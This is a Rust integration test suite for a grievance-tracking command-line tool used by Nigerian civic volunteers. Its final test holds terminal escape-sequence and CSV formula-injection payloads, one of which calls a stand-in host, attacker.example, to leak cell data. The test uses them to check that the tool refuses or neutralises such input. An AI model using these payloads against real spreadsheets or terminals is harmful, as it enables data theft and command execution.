//! The `citizens` command line, driven as a volunteer would: real processes, real files.

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

const PASS: &str = "cli test passphrase";

fn citizens(dir: &Path, args: &[&str]) -> Output {
    citizens_days_later(dir, 0, args)
}

/// Run with the clock moved on by `days` (as a training session would).
fn citizens_days_later(dir: &Path, days: i64, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_citizens"))
        .arg("--data-dir")
        .arg(dir)
        .args(args)
        .env("CITIZENS_PASSPHRASE", PASS)
        .env("CITIZENS_CLOCK_SHIFT_DAYS", days.to_string())
        .output()
        .expect("run citizens")
}

fn ok(dir: &Path, args: &[&str]) -> String {
    let out = citizens(dir, args);
    assert!(
        out.status.success(),
        "{args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("utf-8")
}

fn json(dir: &Path, args: &[&str]) -> Value {
    let mut all = vec!["--json"];
    all.extend_from_slice(args);
    serde_json::from_str(&ok(dir, &all)).expect("json output")
}

/// Runs a command that must fail; returns its one-line reason.
fn refused(dir: &Path, args: &[&str]) -> String {
    let out = citizens(dir, args);
    assert!(!out.status.success(), "{args:?} should fail");
    assert!(
        out.stdout.is_empty(),
        "{args:?} printed to stdout on failure"
    );
    let stderr = String::from_utf8(out.stderr).expect("utf-8");
    assert!(stderr.starts_with("error: "), "{stderr}");
    stderr
}

/// Runs a command with `--json` that must fail; returns the one JSON line on stderr.
fn refused_json(dir: &Path, args: &[&str]) -> Value {
    let mut all = vec!["--json"];
    all.extend_from_slice(args);
    let out = citizens(dir, &all);
    assert!(!out.status.success(), "{args:?} should fail");
    assert!(
        out.stdout.is_empty(),
        "{args:?} printed to stdout on failure"
    );
    let stderr = String::from_utf8(out.stderr).expect("utf-8");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    serde_json::from_str(&stderr).expect("a JSON failure")
}

fn total(dir: &Path) -> u64 {
    json(dir, &["grievance", "list"])["total"]
        .as_u64()
        .expect("total")
}

fn init(dir: &Path) {
    ok(
        dir,
        &[
            "init",
            "--name",
            "Amina Bello",
            "--org",
            "Kano Civic Forum",
            "--device",
            "kano-laptop-1",
        ],
    );
}

const ADD: &[&str] = &[
    "grievance",
    "add",
    "--category",
    "power",
    "--state",
    "Kano",
    "--lga",
    "Tarauni",
    "--title",
    "Estimated billing for eight months",
    "--agency",
    "KEDCO",
];

#[test]
fn a_town_hall_session_from_capture_to_resolution_and_export() {
    let dir = tempfile::tempdir().expect("tempdir");
    init(dir.path());
    let session = json(
        dir.path(),
        &[
            "session",
            "add",
            "--title",
            "Tarauni town hall",
            "--venue",
            "LGA secretariat",
            "--state",
            "KN",
            "--lga",
            "Tarauni",
            "--date",
            "2026-11-20",
        ],
    );
    let sid = session["id"].as_str().expect("session id").to_string();
    ok(
        dir.path(),
        &[
            "session", "attend", &sid, "--total", "140", "--women", "70", "--men", "66", "--pwd",
            "9",
        ],
    );
    ok(
        dir.path(),
        &[
            "session",
            "rep",
            &sid,
            "--name",
            "Alhaji Sani Lawal",
            "--office",
            "Area Manager",
            "--agency",
            "KEDCO",
        ],
    );
    ok(
        dir.path(),
        &[
            "session",
            "commit",
            &sid,
            "--official",
            "Alhaji Sani Lawal",
            "--office",
            "Area Manager",
            "--agency",
            "KEDCO",
            "--promise",
            "Meters for Tarauni ward 4",
            "--due",
            "2027-01-31",
        ],
    );

    let titles = [
        "Passport officer demanded extra payment",
        "Transformer faulty for three months",
        "Illegal levies in public primary school",
        "Health centre staff absent",
    ];
    let mut references = Vec::new();
    for i in 0..20 {
        let title = format!("{} ({})", titles[i % titles.len()], i + 1);
        let kind = if i % titles.len() == 0 {
            "corruption_report"
        } else {
            "complaint"
        };
        let category = ["passports", "power", "education", "health"][i % titles.len()];
        let g = json(
            dir.path(),
            &[
                "grievance",
                "add",
                "--kind",
                kind,
                "--category",
                category,
                "--state",
                "Kano",
                "--lga",
                "Tarauni",
                "--title",
                &title,
                "--session",
                &sid,
                "--channel",
                "town_hall",
                "--reporter-name",
                "Musa Ibrahim",
                "--reporter-phone",
                "0803 555 0142",
                "--consent-explained",
            ],
        );
        assert_eq!(g["sealed"].as_bool(), Some(kind == "corruption_report"));
        references.push(g["reference"].as_str().expect("reference").to_string());
    }
    assert!(references.iter().all(|r| r.starts_with("KN-")));
    assert_eq!(
        references
            .iter()
            .collect::<std::collections::BTreeSet<_>>()
            .len(),
        20,
        "unique references"
    );
    let shown = json(dir.path(), &["session", "show", &sid]);
    assert_eq!(shown["grievances"].as_array().map(Vec::len), Some(20));
    assert_eq!(shown["attendance"]["total"], 140);
    assert_eq!(shown["commitments"][0]["status"], "open");

    let hits = json(dir.path(), &["grievance", "search", "transformer"]);
    assert_eq!(hits.as_array().map(Vec::len), Some(5));
    let case = hits[0]["reference"].as_str().expect("ref").to_string();

    ok(dir.path(), &["grievance", "assign", &case, "Amina Bello"]);
    ok(
        dir.path(),
        &[
            "grievance",
            "note",
            &case,
            "Visited the substation with the ward head",
        ],
    );
    ok(
        dir.path(),
        &[
            "grievance",
            "forward",
            &case,
            "--agency",
            "KEDCO",
            "--channel",
            "letter",
            "--reference",
            "KEDCO/TAR/0091",
        ],
    );
    ok(
        dir.path(),
        &["grievance", "reply", &case, "--summary", "Crew scheduled"],
    );
    ok(
        dir.path(),
        &[
            "grievance",
            "escalate",
            &case,
            "--reason",
            "No crew after the promised date",
        ],
    );
    ok(dir.path(), &["grievance", "status", &case, "in_progress"]);
    let resolved = json(
        dir.path(),
        &[
            "grievance",
            "status",
            &case,
            "resolved",
            "--reason",
            "Transformer replaced",
        ],
    );
    assert_eq!(resolved["case"]["status"], "resolved");
    let timeline = resolved["case"]["timeline"].as_array().expect("timeline");
    let said: Vec<&str> = timeline.iter().filter_map(|e| e["what"].as_str()).collect();
    for expected in [
        "assigned to Amina Bello",
        "note: Visited",
        "forwarded to KEDCO",
        "agency replied",
        "escalated to Head, Customer Service",
        "status → resolved",
    ] {
        assert!(
            said.iter().any(|s| s.starts_with(expected)),
            "timeline lacks '{expected}': {said:?}"
        );
    }
    assert!(timeline
        .iter()
        .all(|e| e["user"] == "Amina Bello" && e["device"] == "kano-laptop-1"));

    let csv_path = dir.path().join("cases.csv");
    ok(
        dir.path(),
        &["export", "csv", "--out", csv_path.to_str().expect("path")],
    );
    let mut reader = csv::Reader::from_path(&csv_path).expect("csv");
    let headers = reader.headers().expect("headers").clone();
    assert!(
        !headers
            .iter()
            .any(|h| h.contains("reporter_name") || h.contains("phone")),
        "no personal data: {headers:?}"
    );
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("rows");
    assert_eq!(rows.len(), 20);
    let exported = std::fs::read_to_string(&csv_path).expect("read");
    assert!(
        !exported.contains("Musa Ibrahim") && !exported.contains("2348035550142"),
        "names and phones never exported"
    );

    let home = json(dir.path(), &["home"]);
    assert_eq!(
        home["my_queue"]["total"], 0,
        "resolved cases leave the queue's due list: {home}"
    );
    assert_eq!(home["call_backs"]["rows"][0]["reference"], case.as_str());
    let closed = json(
        dir.path(),
        &[
            "grievance",
            "callback",
            &case,
            "--note",
            "Light is back on the street",
        ],
    );
    assert_eq!(closed["case"]["status"], "closed", "the citizen confirmed");
    assert!(home["pending_changes"].as_u64().expect("pending") > 20);

    // The papers: the town-hall kit with two numbered forms, and a brief, in Yorùbá.
    let unused = |dir: &Path| {
        json(dir, &["session", "unused-forms"])
            .as_array()
            .expect("list")
            .len()
    };
    let before = unused(dir.path());
    let kit = dir.path().join("kit.pdf");
    let kit_path = kit.to_str().expect("path");
    let said = ok(
        dir.path(),
        &[
            "kit", &sid, "--forms", "2", "--lang", "yo", "--out", kit_path,
        ],
    );
    assert_eq!(
        said.trim(),
        format!(
            "wrote {kit_path} ({} KB) with 2 numbered form(s)",
            std::fs::metadata(&kit).expect("kit").len().div_ceil(1024)
        )
    );
    assert!(std::fs::read(&kit).expect("kit").starts_with(b"%PDF-"));
    assert_eq!(
        unused(dir.path()),
        before + 2,
        "capture offers the kit's numbers"
    );
    let brief = dir.path().join("brief.pdf");
    let brief_path = brief.to_str().expect("path");
    ok(
        dir.path(),
        &[
            "brief", "agency", "KEDCO", "--lang", "yo", "--out", brief_path,
        ],
    );
    assert!(std::fs::read(&brief).expect("brief").starts_with(b"%PDF-"));
    assert_eq!(
        refused(
            dir.path(),
            &["brief", "media", "--lang", "fr", "--out", brief_path]
        )
        .trim(),
        "error: “fr” is not a language the papers are printed in: choose en, ha, yo, ig or pcm"
    );
    let missing = dir.path().join("no-such-folder/kit.pdf");
    refused(
        dir.path(),
        &["kit", &sid, "--out", missing.to_str().expect("path")],
    );
    assert_eq!(
        unused(dir.path()),
        before + 2,
        "a kit not written takes its numbers back"
    );
}

#[test]
fn bad_input_gets_a_clear_reason_and_stores_nothing() {
    let dir = tempfile::tempdir().expect("tempdir");
    init(dir.path());
    let case = json(dir.path(), ADD)["reference"]
        .as_str()
        .expect("ref")
        .to_string();
    assert_eq!(total(dir.path()), 1);

    let mut unknown_lga = ADD.to_vec();
    unknown_lga[7] = "Ikeja";
    let why = refused(dir.path(), &unknown_lga);
    assert!(why.contains("'Ikeja' is not an LGA of Kano"), "{why}");

    let mut unknown_agency = ADD.to_vec();
    unknown_agency[11] = "NOSUCH";
    let why = refused(dir.path(), &unknown_agency);
    assert!(why.contains("no agency 'NOSUCH'"), "{why}");

    let why = refused(
        dir.path(),
        &[
            "grievance",
            "add",
            "--category",
            "weather",
            "--state",
            "KN",
            "--lga",
            "Dala",
            "--title",
            "x",
        ],
    );
    assert!(why.contains("not a category"), "{why}");
    let why = refused(
        dir.path(),
        &[
            "grievance",
            "add",
            "--category",
            "power",
            "--state",
            "KN",
            "--lga",
            "Dala",
            "--title",
            "x",
            "--reporter-phone",
            "12345",
            "--consent-explained",
        ],
    );
    assert!(why.contains("not a Nigerian phone number"), "{why}");
    for (gps, words) in [
        ("12.0", "is not a position: give latitude,longitude"),
        ("north,east", "is not a position"),
        ("8.5920,12.0022x", "is not a position"),
        // A sign lost: the Atlantic, not Kano.
        ("12.0022,-8.5920", "is outside Nigeria: give latitude first"),
    ] {
        let mut add = ADD.to_vec();
        add.extend(["--gps", gps]);
        let why = refused(dir.path(), &add);
        assert!(why.contains(words), "{gps}: {why}");
    }
    assert_eq!(total(dir.path()), 1, "nothing stored by refused captures");
    let mut add = ADD.to_vec();
    add.extend(["--gps", "12.0022,8.5920", "--reporter-disability", "no"]);
    ok(dir.path(), &add);
    assert_eq!(total(dir.path()), 2, "a position in Kano is kept");

    let why = refused(dir.path(), &["grievance", "status", &case, "closed"]);
    assert!(
        why.contains("cannot be moved to closed") && why.contains("allowed next"),
        "{why}"
    );
    let why = refused(
        dir.path(),
        &[
            "grievance",
            "forward",
            &case,
            "--agency",
            "NOSUCH",
            "--channel",
            "letter",
        ],
    );
    assert!(why.contains("no agency"), "{why}");
    let why = refused(
        dir.path(),
        &["grievance", "escalate", &case, "--reason", "slow"],
    );
    assert!(why.contains("forward the case"), "{why}");
    let why = refused(dir.path(), &["grievance", "show", "KN-ZZZ-9999"]);
    assert!(why.contains("no case"), "{why}");
    // With --json the failure is the window's pair: the same code, the same words.
    assert_eq!(
        refused_json(dir.path(), &["grievance", "show", "KN-ZZZ-9999"]),
        serde_json::json!({"code": "not_found", "message": "no case 'KN-ZZZ-9999' here"})
    );
    assert_eq!(
        refused_json(
            dir.path(),
            &["grievance", "escalate", &case, "--reason", "slow"]
        )["code"],
        "invalid"
    );
    assert_eq!(
        refused_json(dir.path(), &["grievance", "list", "--sort", "sideways"]),
        serde_json::json!({
            "code": "invalid",
            "message": "--sort must be newest, oldest, due, priority or reference"
        })
    );
    let shown = json(dir.path(), &["grievance", "show", &case]);
    assert_eq!(shown["case"]["status"], "new");
    assert_eq!(
        shown["case"]["timeline"].as_array().map(Vec::len),
        Some(1),
        "refused actions left no trace"
    );

    let wrong = Command::new(env!("CARGO_BIN_EXE_citizens"))
        .args([
            "--data-dir",
            dir.path().to_str().expect("path"),
            "grievance",
            "list",
        ])
        .env("CITIZENS_PASSPHRASE", "wrong passphrase here")
        .output()
        .expect("run");
    assert!(!wrong.status.success());
    assert!(String::from_utf8_lossy(&wrong.stderr).contains("wrong passphrase"));

    let empty = tempfile::tempdir().expect("tempdir");
    let why = refused(empty.path(), &["grievance", "list"]);
    assert!(why.contains("run `citizens init` first"), "{why}");
    let why = refused(dir.path(), &["init", "--name", "X", "--org", "Y"]);
    assert!(why.contains("already holds"), "{why}");
}

#[test]
fn csv_import_is_all_or_nothing_with_a_report_per_row() {
    let dir = tempfile::tempdir().expect("tempdir");
    init(dir.path());
    let good = "Title,category,state,lga,narrative,consent_purpose_explained,reporter_name\n\
        No water for three weeks,water,Lagos,Ikeja,Taps dry since March,yes,Bisi Adeleke\n\
        Teacher absent all term,education,Kano,Dala,Pupils sent home,yes,\n";
    let bad = format!("{good}Road abandoned,roads,Lagos,Tarauni,Contractor left,yes,\nLevies,education,Kano,Dala,\"unterminated\n");
    let file = dir.path().join("forms.csv");
    std::fs::write(&file, &bad).expect("write");
    let why = refused(
        dir.path(),
        &[
            "import",
            "csv",
            file.to_str().expect("path"),
            "--map",
            "Title=title",
        ],
    );
    assert!(why.starts_with("error: nothing was imported"), "{why}");
    assert!(
        why.contains("row 3: LGA: 'Tarauni' is not an LGA of Lagos"),
        "{why}"
    );
    assert!(
        why.contains("row 4"),
        "the malformed row is reported: {why}"
    );
    assert_eq!(total(dir.path()), 0, "nothing stored");

    let why = refused(dir.path(), &["import", "csv", file.to_str().expect("path")]);
    assert!(why.contains("column 'Title' is not a field"), "{why}");

    std::fs::write(&file, good).expect("write");
    let out = json(
        dir.path(),
        &[
            "import",
            "csv",
            file.to_str().expect("path"),
            "--map",
            "Title=title",
        ],
    );
    assert_eq!(out["imported"], 2);
    assert_eq!(total(dir.path()), 2);
    let hits = json(dir.path(), &["grievance", "search", "taps"]);
    assert_eq!(hits[0]["title"], "No water for three weeks");
}

#[test]
fn the_directory_lists_agencies_with_fees_and_ladders() {
    let dir = tempfile::tempdir().expect("tempdir");
    init(dir.path());
    let all = json(dir.path(), &["agency", "list"]);
    assert!(all.as_array().map_or(0, Vec::len) >= 25);
    let state = json(dir.path(), &["agency", "list", "--level", "state"]);
    assert!(state
        .as_array()
        .expect("rows")
        .iter()
        .all(|a| a["level"] == "state"));
    let nis = json(dir.path(), &["agency", "show", "nis"]);
    assert_eq!(nis["name"], "Nigeria Immigration Service");
    assert!(nis["services"][0]["official_fee"]
        .as_str()
        .expect("fee")
        .contains("₦"));
    assert!(nis["ladder"].as_array().map_or(0, Vec::len) >= 3);
    let articles = json(dir.path(), &["article", "list"]);
    assert!(articles.as_array().map_or(0, Vec::len) >= 3);
    let bail = json(
        dir.path(),
        &["article", "show", "bail-is-free", "--lang", "pcm"],
    );
    assert!(bail["body"]
        .as_str()
        .expect("body")
        .contains("Bail for police station na free"));
    let hausa = json(
        dir.path(),
        &["article", "show", "bail-is-free", "--lang", "ha"],
    );
    assert_eq!(hausa["translation"], "awaiting_review");
    assert!(hausa["body"]
        .as_str()
        .expect("body")
        .contains("Beli a ofishin ʼyan sanda kyauta ne"));
    let marked = json(
        dir.path(),
        &["article", "reviewed", "bail-is-free", "--lang", "ha"],
    );
    assert_eq!(marked["translation"], "reviewed");
    let again = json(
        dir.path(),
        &["article", "show", "bail-is-free", "--lang", "ha"],
    );
    assert_eq!(again["translation"], "reviewed");
    let yoruba = json(
        dir.path(),
        &["article", "show", "bail-is-free", "--lang", "yo"],
    );
    assert_eq!(yoruba["translation"], "awaiting_review");
    let why = refused(
        dir.path(),
        &["article", "reviewed", "bail-is-free", "--lang", "en"],
    );
    assert!(why.contains("English is the original"), "{why}");
    let why = refused(
        dir.path(),
        &["article", "reviewed", "bail-is-free", "--lang", "fr"],
    );
    assert!(why.contains("is not written in 'fr'"), "{why}");
    let why = refused(dir.path(), &["article", "show", "no-such-article"]);
    assert!(why.contains("no article"), "{why}");
    let why = refused(dir.path(), &["agency", "list", "--level", "galactic"]);
    assert!(why.contains("not one of: federal, state, lga"), "{why}");
}

#[test]
fn sample_data_lands_in_the_state_asked_for() {
    let dir = tempfile::tempdir().expect("tempdir");
    init(dir.path());
    let out = json(dir.path(), &["sample", "--count", "12", "--state", "Lagos"]);
    assert_eq!(out["imported"], 12);
    let page = json(
        dir.path(),
        &["grievance", "list", "--state", "LA", "--limit", "100"],
    );
    assert_eq!(page["total"], 12);
    let why = refused(dir.path(), &["sample", "--state", "Atlantis"]);
    assert!(why.contains("not a Nigerian state"), "{why}");
}

#[test]
fn a_coordinator_routes_merges_forwards_sees_it_overdue_escalates_and_closes() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    init(d);
    let add = |title: &str, narrative: &str| {
        json(
            d,
            &[
                "grievance",
                "add",
                "--category",
                "land",
                "--state",
                "Borno",
                "--lga",
                "Maiduguri",
                "--title",
                title,
                "--narrative",
                narrative,
                "--reporter-name",
                "Zainab Usman",
                "--reporter-phone",
                "0803 555 0142",
                "--consent-explained",
                "--consent-share",
                "--consent-contact",
            ],
        )["reference"]
            .as_str()
            .expect("reference")
            .to_string()
    };
    let first = add(
        "Land office on Baga Road wants an unofficial fee",
        "The land registry office on Baga Road near the Monday market has asked for an unofficial fee for six weeks.",
    );
    let again = add(
        "Baga Road land office unofficial fee",
        "Land registry on Baga Road by the Monday market: an unofficial fee asked for six weeks.",
    );

    // No shipped rule covers land in Borno: the coordinator adds one, and a holiday.
    assert!(ok(d, &["grievance", "route-all"]).contains("0 case(s)"));
    let err = refused(
        d,
        &["rules", "add", "--category", "land", "--agency", "NOSUCH"],
    );
    assert!(err.contains("NOSUCH"), "{err}");
    ok(
        d,
        &[
            "rules",
            "add",
            "--category",
            "land",
            "--state",
            "Borno",
            "--agency",
            "PCC",
        ],
    );
    assert!(ok(d, &["rules", "list"]).contains("PCC"));
    ok(
        d,
        &["holidays", "add", "2026-12-31", "New Year's Eve holiday"],
    );
    assert!(ok(d, &["holidays", "list"]).contains("New Year's Eve holiday"));
    let err = refused(d, &["holidays", "add", "31/12/2026", "x"]);
    assert!(err.contains("2026-11-28"), "{err}");

    // The second telling is suggested as a duplicate of the first and merged into it.
    let suggested = json(d, &["grievance", "duplicates"]);
    assert_eq!(suggested.as_array().map(Vec::len), Some(1), "{suggested}");
    assert_eq!(suggested[0]["case"]["reference"], again.as_str());
    assert!(ok(d, &["grievance", "duplicates"]).contains("same phone"));
    ok(d, &["grievance", "merge", &again, &first]);
    assert!(ok(d, &["grievance", "show", &again]).contains(&format!("merged into: {first}")));
    assert!(ok(d, &["grievance", "show", &first]).contains(&format!("merged:    {again}")));

    // Route the rest: the merged copy stays a duplicate.
    assert!(ok(d, &["grievance", "route-all"]).contains("1 case(s)"));
    ok(
        d,
        &[
            "grievance",
            "forward",
            &first,
            "--agency",
            "PCC",
            "--channel",
            "letter",
        ],
    );
    let case = json(d, &["grievance", "show", &first]);
    let due = case["case"]["sla_due"].as_str().expect("due").to_string();
    let home = |days: i64| -> Value {
        let out = citizens_days_later(d, days, &["--json", "home"]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).expect("json")
    };
    assert_eq!(home(0)["overdue"]["total"], 0);
    // Sixty days on, the office has sat on it past its due day.
    let later = home(60);
    assert_eq!(later["overdue"]["total"], 1, "due {due}");
    assert_eq!(later["overdue"]["rows"][0]["reference"], first.as_str());
    let out = citizens_days_later(
        d,
        60,
        &[
            "grievance",
            "escalate",
            &first,
            "--reason",
            "No answer from the desk officer",
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        home(60)["overdue"]["total"],
        0,
        "the next office has its own time"
    );
    for to in ["in_progress", "resolved"] {
        ok(d, &["grievance", "status", &first, to]);
    }
    ok(
        d,
        &[
            "grievance",
            "callback",
            &first,
            "--note",
            "Water flows again since Tuesday",
        ],
    );
    let done = json(d, &["grievance", "show", &first]);
    assert_eq!(done["case"]["status"], "closed");
    let kinds: Vec<&str> = done["case"]["timeline"]
        .as_array()
        .expect("timeline")
        .iter()
        .filter_map(|e| e["kind"].as_str())
        .collect();
    for kind in [
        "merged_from",
        "forwarded",
        "escalated",
        "callback_confirmed",
    ] {
        assert!(kinds.contains(&kind), "{kind} in {kinds:?}");
    }
    assert!(
        done["case"]["timeline"]
            .as_array()
            .expect("timeline")
            .iter()
            .all(|e| e["user"] == "Amina Bello" && e["device"] == "kano-laptop-1"),
        "every entry says who and on which laptop"
    );
    let history = ok(d, &["grievance", "history", &first]);
    for what in [
        "created the case",
        "status history",
        "Amina Bello (kano-laptop-1)",
    ] {
        assert!(history.contains(what), "{what} in {history}");
    }
}

/// A title that would rewrite the terminal is refused in words; one a spreadsheet would run as
/// a formula is kept as typed and exported as text (OWASP's rule, `core::spreadsheet::inert`).
#[test]
fn outside_text_cannot_reach_the_terminal_raw_nor_run_in_a_spreadsheet() {
    let dir = tempfile::tempdir().expect("dir");
    init(dir.path());
    let with_title = |title: &'static str| -> Vec<&'static str> {
        let mut args = ADD.to_vec();
        let at = args.iter().position(|a| *a == "--title").expect("title") + 1;
        args[at] = title;
        args
    };
    let why = refused(
        dir.path(),
        &with_title("\u{1b}]0;owned\u{7}\u{1b}[2K\rA case revoked"),
    );
    assert_eq!(
        why,
        "error: title: holds an invisible control character (character 1 of the text); type it again without it, on one line\n"
    );
    assert_eq!(total(dir.path()), 0, "nothing stored");
    let formulas = [
        "=HYPERLINK(\"http://attacker.example/?leak=\"&A2&B2,\"Details\")",
        "@SUM(1+9)*cmd|' /C calc'!A0",
    ];
    for title in formulas {
        ok(dir.path(), &with_title(title));
    }
    // Any text written on a case, not only at capture: a note that would rewrite the screen is
    // refused (the server would refuse the change, and the case could never sync again).
    let case = json(dir.path(), &["grievance", "list"])["rows"][0]["reference"]
        .as_str()
        .expect("a case")
        .to_string();
    let why = refused(
        dir.path(),
        &["grievance", "note", &case, "Seen\u{1b}[2K\rnothing"],
    );
    assert_eq!(
        why,
        "error: text: it holds an invisible control character (such as ESC or a lone carriage return) that could rewrite the screen showing it; nothing of it was stored\n"
    );
    let csv_path = dir.path().join("cases.csv");
    ok(
        dir.path(),
        &["export", "csv", "--out", csv_path.to_str().expect("path")],
    );
    let mut rows = csv::Reader::from_path(&csv_path).expect("csv");
    let titles: Vec<String> = rows
        .deserialize::<std::collections::HashMap<String, String>>()
        .map(|r| r.expect("row")["title"].clone())
        .collect();
    let mut expected: Vec<String> = formulas.iter().map(|t| format!("'{t}")).collect();
    let mut got = titles.clone();
    expected.sort();
    got.sort();
    assert_eq!(got, expected);
}
